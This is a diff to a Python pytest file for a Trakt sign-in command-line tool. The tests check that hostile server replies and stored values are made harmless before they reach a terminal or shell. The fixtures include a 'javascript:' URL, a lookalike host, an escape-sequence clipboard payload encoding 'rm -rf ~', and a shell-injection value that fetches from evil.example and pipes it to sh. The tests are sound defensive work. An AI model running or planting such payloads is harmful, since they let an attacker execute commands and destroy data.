@@ -2,11 +2,9 @@
 
 from __future__ import annotations
 
-import contextlib
 import json
 import re
-import socket
-import threading
+import signal
 
 import pytest
 
@@ -26,49 +24,13 @@ def is_safe(text):
     return escape(re.sub("\x1b\\[[0-9;]*m", "", text), keep="\n") == re.sub("\x1b\\[[0-9;]*m", "", text)
 
 
-class Answering:
-    """A server that gives one raw answer to everything."""
-
-    def __init__(self, head, body):
-        self.listener = socket.create_server(("127.0.0.1", 0))
-        self.base = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
-        self.answer = (
-            head.encode("latin-1") + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
-        )
-        self.thread = threading.Thread(target=self._serve, daemon=True)
-        self.thread.start()
-
-    def _serve(self):
-        with contextlib.suppress(OSError):
-            while True:
-                visitor = self.listener.accept()[0]
-                with visitor:
-                    visitor.settimeout(5)
-                    asked = b""
-                    while b"\r\n\r\n" not in asked:
-                        asked += visitor.recv(65536) or b"\r\n\r\n"
-                    visitor.sendall(self.answer)
-                    visitor.shutdown(socket.SHUT_WR)
-                    while visitor.recv(65536):
-                        pass
-
-    def close(self):
-        self.listener.shutdown(socket.SHUT_RDWR)
-        self.listener.close()
-        self.thread.join(60)
-
-
 @pytest.fixture
-def answering():
-    started = []
-
-    def start(body, head="HTTP/1.1 200 OK\r\n"):
-        started.append(Answering(head, body if isinstance(body, bytes) else json.dumps(body).encode()))
-        return started[-1].base
-
-    yield start
-    for each in started:
-        each.close()
+def answering(at_local, local):
+    """`traktauth` signed in at a local Trakt whose responses on a path can be replaced."""
+    at_local.answer = lambda path, **fault: local.control("PUT", "faults", [{"path": path, "times": 9, **fault}])
+    at_local.keep_real(local)
+    yield at_local
+    local.control("DELETE", "faults")
 
 
 CODES = {"device_code": "d" * 40, "user_code": "ABCD2345", "expires_in": 600, "interval": 5}
@@ -85,19 +47,21 @@ CODES = {"device_code": "d" * 40, "user_code": "ABCD2345", "expires_in": 600, "i
         {"verification_url": "javascript:alert(1)"},
     ],
 )
-def test_a_device_code_that_cannot_be_typed_ends_the_sign_in(command, answering, codes):
-    base = answering({**CODES, "verification_url": "https://trakt.tv/activate", **codes})
-    outcome = command.at(base)("login", "--device")
+def test_a_device_code_that_cannot_be_typed_ends_the_sign_in(answering, codes):
+    body = {**CODES, "verification_url": "https://trakt.tv/activate", **codes}
+    answering.answer("/oauth/device/code", body=body)
+    outcome = answering("login", "--device", "--yes")
     assert outcome.status == 1
-    assert outcome.err.startswith("Error: Trakt sent a")
+    assert outcome.err.splitlines()[-2].startswith("Error: Trakt sent a")
     assert is_safe(outcome.err)
     assert len(outcome.err) < 1000
 
 
-def test_a_device_page_on_a_foreign_host_is_shown_with_a_word(command, answering):
-    base = answering({**CODES, "verification_url": "https://trakt.tv.evil.example/activate", "expires_in": 1})
-    outcome = command.at(base)("login", "--device")
-    assert "! the page for the code is at trakt.tv.evil.example, which does not belong to" in outcome.err
+def test_a_device_page_on_a_foreign_host_is_shown_with_a_word(answering):
+    body = {**CODES, "verification_url": "https://trakt.tv.evil.example/activate"}
+    answering.answer("/oauth/device/code", body=body)
+    words = r"! the page for the code is at trakt\.tv\.evil\.example, which does not belong to"
+    answering("login", "--device", "--yes", steps=[(words, lambda _: signal.raise_signal(signal.SIGINT))])
 
 
 def test_the_librarys_own_prompt_shows_nothing_that_a_terminal_obeys(capsys):
@@ -108,21 +72,11 @@ def test_the_librarys_own_prompt_shows_nothing_that_a_terminal_obeys(capsys):
     assert shown.count("\n") == 4
 
 
-def test_the_reason_phrase_and_the_wait_of_an_answer_are_not_repeated(command, answering):
-    head = "HTTP/1.1 503 Busy \x1b]0;title\x07\r\nRetry-After: 7\x1b]0;x\r\n"
-    command.at(answering(b"", head))
-    command.keep()
-    outcome = command("request", "GET", "/users/settings")
-    assert is_safe(outcome.err)
-    assert outcome.status in {1, 5}
-
-
-def test_a_body_reaches_a_terminal_without_its_escape_sequences_and_a_pipe_as_it_came(command, answering):
-    body = f'{{"name": "{OSC}"}}'.encode()
-    command.at(answering(body))
-    command.keep()
-    assert command("request", "GET", "/users/settings").out == body.decode()
-    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in command.show("request", "GET", "/users/settings", on="out").out
+def test_a_body_reaches_a_terminal_without_its_escape_sequences_and_a_pipe_as_it_came(answering):
+    body = f'{{"name": "{OSC}"}}'
+    answering.answer("/users/settings", body=body)
+    assert answering("request", "GET", "/users/settings").out == body
+    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in answering.show("request", "GET", "/users/settings", on="out").out
 
 
 def test_a_store_that_others_wrote_prints_nothing_that_a_terminal_obeys(command):
@@ -133,12 +87,16 @@ def test_a_store_that_others_wrote_prints_nothing_that_a_terminal_obeys(command)
         assert not any(line.startswith("✓ FAKE") for line in (outcome.out + outcome.err).splitlines())
 
 
-@pytest.mark.parametrize("moved", [f"file:/x{OSC}", "https://evil.example/", "x\n✓ FAKE", "file:/" + "a" * 60_000])
-def test_a_login_moved_to_what_is_no_store_names_no_address(command, moved):
+def plant_move(command, moved):
     command.keep()
     planted = json.loads(command.path.read_text())
     (entry,) = planted["logins"]
     command.path.write_text(json.dumps({**planted, "logins": [{**entry, "moved_to": moved, "token": None}]}))
+
+
+@pytest.mark.parametrize("moved", [f"file:/x{OSC}", "https://evil.example/", "x\n✓ FAKE", "file:/" + "a" * 60_000])
+def test_a_login_moved_to_what_is_no_store_names_no_address(command, moved):
+    plant_move(command, moved)
     for words in (["token"], ["status"], ["doctor", "--offline"]):
         outcome = command(*words)
         shown = outcome.out + outcome.err
@@ -150,10 +108,7 @@ def test_a_login_moved_to_what_is_no_store_names_no_address(command, moved):
 
 def test_the_command_to_use_a_moved_login_is_quoted_for_a_shell(command):
     moved = "file:x;curl${IFS}evil.example|sh;#"
-    command.keep()
-    planted = json.loads(command.path.read_text())
-    (entry,) = planted["logins"]
-    command.path.write_text(json.dumps({**planted, "logins": [{**entry, "moved_to": moved, "token": None}]}))
+    plant_move(command, moved)
     for words in (["status"], ["doctor", "--offline"]):
         outcome = command(*words)
         assert f"--store '{moved}', or TRAKTAUTH_STORE" in outcome.out + outcome.err
